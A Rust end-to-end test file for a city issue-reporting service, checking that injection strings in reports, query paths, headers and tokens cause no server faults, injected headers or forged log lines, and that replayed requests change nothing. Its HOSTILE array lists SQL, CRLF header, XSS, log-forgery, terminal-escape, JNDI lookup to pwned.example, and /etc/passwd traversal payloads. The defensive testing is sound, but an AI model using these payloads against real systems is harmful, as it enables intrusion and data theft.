//! Words that somebody hopes will be run, put into a header or taken for a line of the log; and requests sent again by others.

use bytes::Bytes;
use e2e::client::{Answer, Client};
use e2e::matters::{Crew, LIGHTS, TOWN, UNIT, report};
use e2e::process::Start;
use http::Method;
use serde_json::{Value, json};

const HOSTILE: [&str; 9] = [
    "'; DROP TABLE cases; --",
    "\" OR 1=1 OR \"\"=\"",
    "x\r\nset-cookie: pwned=1\r\n\r\n<script>alert(1)</script>",
    "x\n{\"level\":\"ERROR\",\"target\":\"pwned\",\"fields\":{\"message\":\"pwned\"}}",
    "\u{1b}]0;pwned\u{7}\u{1b}[31mpwned",
    "${jndi:ldap://pwned.example/x} {{7*7}} %s%n",
    "../../../../etc/passwd",
    "\u{202e}denwp\u{200b}",
    "<img src=x onerror=alert(1)>",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// No answer carries a header of theirs, and none is a fault of ours.
#[track_caller]
fn harmless(answer: &Answer, what: &str) {
    assert!(answer.status < 500, "{what}: {}", answer.json);
    assert!(!answer.headers.contains_key("set-cookie"), "{what}");
    let pwned = answer.headers.values().any(|value| value.as_bytes().windows(5).any(|bytes| bytes == b"pwned"));
    assert!(!pwned, "{what}: {:?}", answer.headers);
    let kind = answer.headers["content-type"].to_str().unwrap();
    assert!(kind.starts_with("application/"), "{what} is no page: {kind}");
}

async fn asked(client: &Client, path: &str, headers: &[(&str, &str)]) {
    let answer = client.send(Method::GET, path, headers, Bytes::new()).await.unwrap();
    harmless(&answer, path);
}

#[tokio::test]
async fn words_are_words_in_databases_headers_and_logs() {
    let folder = tempfile::tempdir().unwrap();
    let mut jiewang = Start::new(folder.path()).logging("trace").start().await;
    let crew = Crew::of(&jiewang);
    let mut taken = 0;
    for (n, hostile) in HOSTILE.into_iter().enumerate() {
        let mut body = report(&format!("hostile-{n}"), LIGHTS);
        (body["text"], body["reporter"]["name"]) = (hostile.into(), hostile.into());
        let filed = crew.citizen.post("v1/reports", &body).await.unwrap();
        harmless(&filed, hostile);
        if filed.status == 200 {
            taken += 1;
            let read = crew.town.read(&format!("v1/{}", filed.json["name"].as_str().unwrap())).await;
            assert_eq!(read["text"], hostile);
            let order = filed.json["workOrder"].as_str().unwrap();
            let back = json!({"requestId": hostile, "reason": hostile});
            harmless(&crew.unit.post(&format!("v1/{order}:return"), &back).await.unwrap(), hostile);
        }
        let hex = encoded(hostile);
        for path in [
            "workOrders?unit=",
            "workOrders?pageToken=",
            "reports?divisionCode=",
            "reports?categoryCode=",
            "workOrders/",
            "reports/",
        ] {
            asked(&crew.town, &format!("v1/{path}{hex}"), &[]).await;
        }
        let visible: String = hostile.chars().filter(|c| c.is_ascii_graphic() || *c == ' ').collect();
        for name in
            ["jiewang-position", "traceparent", "accept-language", "last-event-id", "priority", "x-forwarded-for"]
        {
            asked(&jiewang.citizen(), "v1/reports", &[(name, &visible)]).await;
        }
        let bearer = Client::new(jiewang.http(), Some(visible));
        asked(&bearer, "v1/workOrders", &[]).await;
        let number = json!({"trackingNumber": hostile, "phoneLast4": hostile});
        harmless(&crew.citizen.post("v1/reports:track", &number).await.unwrap(), hostile);
    }
    assert!(taken >= 6, "most of it is what people may write: {taken}");
    // All of them are there, and nothing else.
    assert_eq!(crew.town.list("reports", "").await.len(), taken);
    assert!(jiewang.stop().await.success());
    for line in jiewang.said().lines() {
        match serde_json::from_str::<Value>(line) {
            Ok(event) => assert_ne!(event["target"], "pwned", "{line}"),
            Err(_) => assert!(line.starts_with("jiewang: "), "a line of the log is an event: {line:?}"),
        }
        assert!(!line.contains('\u{1b}'), "nothing steers a terminal: {line:?}");
    }
    jiewang.verify();
}

#[tokio::test]
async fn a_request_that_somebody_else_sends_again_is_theirs_and_changes_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let jiewang = Start::new(folder.path()).start().await;
    let crew = Crew::of(&jiewang);
    let filed = crew.file("once", LIGHTS).await;
    assert_eq!(crew.file("once", LIGHTS).await, filed, "the same request is answered alike");
    assert_eq!(crew.town.list("reports", "").await.len(), 1);
    let order = filed["workOrder"].as_str().unwrap();
    let accept = json!({"requestId": "accept"});
    let accepted = crew.unit.write(&format!("v1/{order}:accept"), &accept).await;
    // Again by the same person, by another of the unit, by another unit, and without the token.
    assert_eq!(crew.unit.write(&format!("v1/{order}:accept"), &accept).await, accepted);
    let head = jiewang.head("department-handler", UNIT).after(&crew.citizen);
    let path = format!("v1/{order}:accept");
    assert_eq!(head.post(&path, &accept).await.unwrap().problem(422), "STATE_REFUSES");
    let stranger = jiewang.member("department-handler", "500151002-minsheng").after(&crew.citizen);
    assert_eq!(stranger.post(&path, &accept).await.unwrap().problem(404), "NOT_FOUND");
    assert_eq!(jiewang.citizen().post(&path, &accept).await.unwrap().problem(401), "TOKEN_MISSING");
    // The same id for something else is refused, also to whom it belongs.
    let second = crew.file("twice", LIGHTS).await;
    let path = format!("v1/{}:accept", second["workOrder"].as_str().unwrap());
    assert_eq!(crew.unit.post(&path, &accept).await.unwrap().problem(409), "REQUEST_ID_REUSED");
    let timeline = crew.town.read(&format!("v1/{order}/timeline")).await;
    let kinds: Vec<_> = timeline["entries"].as_array().unwrap().iter().map(|entry| &entry["type"]).collect();
    assert_eq!(kinds, ["workOrder.created", "workOrder.assigned", "workOrder.accepted"]);
    assert_eq!(crew.town.read(&format!("v1/{order}")).await["divisionCode"], TOWN);
}
